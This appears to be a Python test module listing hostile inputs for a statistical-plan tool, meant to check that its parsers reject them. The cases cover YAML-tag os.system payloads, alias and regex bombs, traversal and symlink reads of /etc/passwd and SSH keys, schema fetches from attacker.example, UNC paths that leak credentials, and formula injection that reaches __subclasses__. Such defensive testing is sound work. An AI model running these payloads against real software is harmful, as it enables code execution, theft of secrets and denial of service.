# ruff: noqa: E501
"""Attacks by plans, schemas, file names and formulas."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.hostile.attack import CANARY, Attack
from tests.plan.plans import good

PAYLOAD = f"__import__('os').system('touch {CANARY}')"
BOMB = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))


def edited(*place: str, value: object) -> str:
    """A good plan with another value in one place."""
    document = good()
    inner: Any = document
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = value
    return json.dumps(document, ensure_ascii=False)


def raw(field: str, text: str) -> str:
    """A good plan in which a field of the top is YAML text."""
    document = {name: value for name, value in good().items() if name != field}
    return json.dumps(document)[:-1] + f", {json.dumps(field)}: {text}}}"


def says(text: str) -> Callable[[Any], None]:
    """A check that a plan holds a text as the text that it is."""

    def check(given: Any) -> None:
        assert text in given[0].plan.model_dump_json(by_alias=True)

    return check


def chained(length: int) -> str:
    """Analyses that are each based on the one before, and each as large."""
    document = good()
    for n in range(length):
        parent = f"c{n - 1}" if n else "primary"
        document["analyses"][f"c{n}"] = {"based_on": parent, "purpose": "exploratory", "label": "x" * 50}
    return json.dumps(document)


def _plan(name: str, tried: str, content: str | bytes, harmless: Any = None) -> Attack:
    return Attack(f"plan: {name}", "plan", tried, content, harmless)


PLANS = (
    _plan(
        "python object",
        "run a command by a YAML tag",
        f"id: !!python/object/apply:os.system ['touch {CANARY}']",
    ),
    _plan("python name", "reach a Python function by a YAML tag", "id: !!python/name:os.system ''"),
    _plan("own tag", "have an object made by a tag of one's own", "id: !thing {a: 1}"),
    _plan("binary tag", "hide content by !!binary", "id: !!binary R0lGODlh"),
    _plan("aliases", "fill the memory with nested aliases (billion laughs)", f"a0: &a0 x\n{BOMB}"),
    _plan("merge key", "say one thing and mean another by a merge key", "a: &a {b: 1}\nc: {<<: *a}"),
    _plan("duplicate key", "show one value to people and another to the program", '{"id": "a", "id": "b"}'),
    _plan("second document", "hide a second plan behind the first", "id: a\n---\nid: b"),
    _plan("directive", "redefine tags by a directive", "%TAG ! tag:yaml.org,2002:python/\n---\nid: a"),
    _plan("deep brackets", "overflow the stack with 100,000 levels", "[" * 100_000),
    _plan("deep mappings", "overflow the stack with levels of mappings", "{a: " * 5_000 + "}" * 5_000),
    _plan(
        "many values", "keep the parser busy for minutes with a list", raw("x", "[" + "1," * 400_000 + "1]")
    ),
    _plan(
        "many unknown keys",
        "make millions of characters of findings",
        "\n".join(f"k{n}: 1" for n in range(9_000)),
    ),
    _plan("a megabyte", "have a huge file read", "a: " + "x" * 1_100_000),
    _plan("long key", "have a key of 900,000 characters quoted back", f'"{"k" * 900_000}": 1'),
    _plan("huge integer", "stall on a number of 900,000 digits", raw("seed", "9" * 900_000)),
    _plan("huge hexadecimal", "stall on a hexadecimal number", raw("seed", "0x" + "f" * 500_000)),
    _plan("huge exponent", "overflow a double", raw("seed", "1e400")),
    _plan("not a number", "carry NaN into the results", raw("seed", ".nan")),
    _plan("number keys", "confuse readers with keys that are no text", "1: a"),
    _plan("NUL", "cut the text short in other programs", "id: a\0b"),
    _plan("terminal escape", "clear the reader's screen by a title", raw("title", r'"\e[2J\e[31mred"')),
    _plan("right to left", "show a title in another order", edited("title", value="safe \u202eelpmis")),
    _plan("zero width", "make two titles look the same", edited("title", value="a\u200bb")),
    _plan("half a character", "crash whoever writes the title", raw("title", r'"\ud800"')),
    _plan("look-alike key", "give a field that looks like `analyses`", edited("\u0430nalyses", value={})),
    _plan("UTF-16", "be read differently by the encoding", "id: a".encode("utf-16")),
    _plan("Latin-1", "be read differently by the encoding", b"title: caf\xe9"),
    _plan("path as id", "write results elsewhere by the id", edited("id", value="../../x")),
    _plan("HTML as id", "put a script into file names and pages", edited("id", value="<script>")),
    _plan(
        "schema by path",
        "read a schema from elsewhere",
        edited("data", "births", value={"schema": "../../etc/passwd"}),
    ),
    _plan(
        "other folder",
        "have data read from a folder of any variable",
        edited("data", "births", value={"schema": "births", "file": "x.csv", "folder": "HOME"}),
    ),
    _plan("circle", "loop forever over based_on", edited("analyses", "primary", "based_on", value="primary")),
    _plan("chain", "multiply a plan by based_on", chained(4_500)),
    _plan("code as column", "have a column evaluated", edited("outcomes", "uptake", "column", value=PAYLOAD)),
    _plan(
        "code as label",
        "have a label evaluated",
        edited("analyses", "primary", "label", value=PAYLOAD),
        says(PAYLOAD),
    ),
    _plan(
        "template",
        "have a template in a title filled in",
        edited("title", value="{{ 7 * 7 }}"),
        says("{{ 7 * 7 }}"),
    ),
    _plan(
        "method of a module",
        "import a module by the name of a method",
        edited("analyses", "primary", "method", value={"kind": "os.system"}),
    ),
    _plan(
        "endless resampling",
        "ask for 10^12 permutations",
        edited(
            "analyses",
            "primary",
            "method",
            value={"kind": "randomisation_test", "allocations": {"kind": "monte_carlo", "draws": 10**12}},
        ),
    ),
    _plan(
        "many event codes",
        "compare 9,000 codes with one another",
        edited("outcomes", "uptake", "event", value=[f"v{n}" for n in range(9_000)]),
        lambda given: None,
    ),
)

FIELDS = "fields: [{name: a, type: string, constraints: CONSTRAINTS}]"


def _constrained(text: str) -> str:
    return "name: s\n" + FIELDS.replace("CONSTRAINTS", text)


def _schema(name: str, tried: str, content: str, harmless: Any = None) -> Attack:
    return Attack(f"schema: {name}", "schema", tried, content, harmless)


def _many_fields(number: int) -> str:
    return "name: s\nfields:\n" + "\n".join(f"- {{name: f{n}, type: string}}" for n in range(number))


SCHEMAS = (
    _schema(
        "python object",
        "run a command by a YAML tag",
        f"name: !!python/object/apply:os.system ['touch {CANARY}']",
    ),
    _schema(
        "pattern too large",
        "fill the memory with a pattern",
        _constrained("{pattern: '(((a{100}){100}){100}){100}'}"),
    ),
    _schema(
        "pattern of thousands",
        "fill the memory with a repeated class",
        _constrained(r"{pattern: '(\\pL{1000}){1000}'}"),
    ),
    _schema(
        "pattern that escapes",
        "close the group in which a pattern is put",
        _constrained("{pattern: 'a)|(?:.*'}"),
    ),
    _schema(
        "back-reference",
        "make matching exponential by a back-reference",
        _constrained(r"{pattern: '(a+)\1'}"),
    ),
    _schema("lookahead", "make matching exponential by looking ahead", _constrained("{pattern: '(?=a+)b'}")),
    _schema(
        "code in a pattern",
        "have a pattern run code as Perl does",
        _constrained("{pattern: '(?{ system(1) })'}"),
    ),
    _schema(
        "large enum",
        "stall on 9,000 allowed values",
        _constrained("{enum: [" + ",".join(f"v{n}" for n in range(9_000)) + "]}"),
        lambda given: None,
    ),
    _schema("too many fields", "stall on 3,000 columns", _many_fields(3_000)),
    _schema(
        "equal fields",
        "stall on 4,000 columns of one name",
        "name: s\nfields:\n" + "- {name: a, type: string}\n" * 4_000,
    ),
    _schema("deep", "overflow the stack", "name: " + "[" * 5_000),
    _schema(
        "reference elsewhere",
        "have a schema fetched",
        "name: s\n$ref: http://attacker.example/schema\nfields: [{name: a, type: string}]",
    ),
    _schema(
        "profile elsewhere",
        "have a profile fetched",
        "$schema: http://attacker.example/x\nname: s\nfields: [{name: a, type: string}]",
        lambda given: None,
    ),
    _schema(
        "data elsewhere",
        "have data fetched by a path",
        "name: s\npath: http://attacker.example/x.csv\nfields: [{name: a, type: string}]",
    ),
    _schema(
        "rule in Python",
        "run a rule of one's own",
        f'name: s\nfields: [{{name: a, type: string}}]\nx-precept: {{rules: [{{id: r, kind: python, code: "{PAYLOAD}"}}]}}',
    ),
    _schema(
        "terminal escape",
        "clear the reader's screen by a title",
        'name: s\nfields: [{name: a, type: string, title: "\\e[2J"}]',
    ),
    _schema(
        "infinite limit",
        "compare with infinity",
        "name: s\nfields: [{name: a, type: number, constraints: {maximum: 1e999}}]",
    ),
    _schema(
        "name as path",
        "write to another folder by the name",
        "name: ../../x\nfields: [{name: a, type: string}]",
    ),
)


def _file(name: str, tried: str, given: str) -> Attack:
    return Attack(f"file: {name}", "file of a plan", tried, lambda _: {"schema": "births", "file": given})


def _linked(folder: Path) -> dict[str, str]:
    (folder / "data.csv").symlink_to("/etc/passwd")
    return {"schema": "births", "file": "data.csv"}


FILES = (
    _file("climbing", "read a file outside the plan's folder", "../../../etc/passwd"),
    _file("climbing later", "climb out after going in", "data/../../../etc/passwd"),
    _file("absolute", "read any file", "/etc/passwd"),
    _file("home", "read a file of the user's", "~/.ssh/id_ed25519"),
    _file("URL", "have a file fetched", "file:///etc/passwd"),
    _file("web", "have a file fetched from the web", "https://attacker.example/x.csv"),
    _file("drive", "read from a drive", "C:\\data.csv"),
    _file("share", "send credentials to a server", "\\\\attacker\\share\\x.csv"),
    _file("device", "hang on a device", "data/con.csv"),
    _file("stream", "read a hidden stream", "x.csv:hidden"),
    _file("line break", "forge a line of the message", "x.csv\nerror: all is well"),
    _file("variable", "have a variable of the environment filled in", "$HOME/.netrc"),
    _file("empty", "read the folder itself", " "),
    Attack("file: link", "file of a plan", "read a file outside through a link", _linked),
)


def _formula(name: str, tried: str, content: str) -> Attack:
    return Attack(f"formula: {name}", "formula", tried, content)


FORMULAS = (
    _formula("import", "run a command", f"y ~ {PAYLOAD}"),
    _formula("identity", "have I() evaluate code", f"y ~ I({PAYLOAD})"),
    _formula("left side", "have the outcome evaluated", "eval(y) ~ x"),
    _formula("dunder", "reach classes by attributes", "y ~ x.__class__.__mro__[-1].__subclasses__()"),
    _formula("lambda", "define a function", "y ~ (lambda: x)()"),
    _formula("open", "write a file", f"y ~ log(open('{CANARY}', 'w'))"),
    _formula("powers of two", "expand 2^24 interactions", "y ~ " + "*".join("abcdefghijklmnopqrstuvwx")),
    _formula("power", "expand a power", "y ~ (a + b) ** 99999999"),
    _formula("product of sums", "expand 3^100 terms", "y ~ " + "*".join(["(a + b + c)"] * 100)),
    _formula("deep parentheses", "overflow the stack", "y ~ " + "(" * 900 + "x" + ")" * 900),
    _formula("ten million characters", "stall the reader", "y ~ " + "x" * 10**7),
    _formula("full width", "pass for another character", "y ~ \uff45val(x)"),
    _formula("look-alike", "name a column that looks the same", "y ~ \u0430rm"),
    _formula("f-string", "have a text filled in", "y ~ f'{x}'"),
    _formula("shell", "run a command by backticks", f"y ~ `touch {CANARY}`"),
    _formula("half a character", "crash whoever writes the message", "y ~ \ud800"),
)
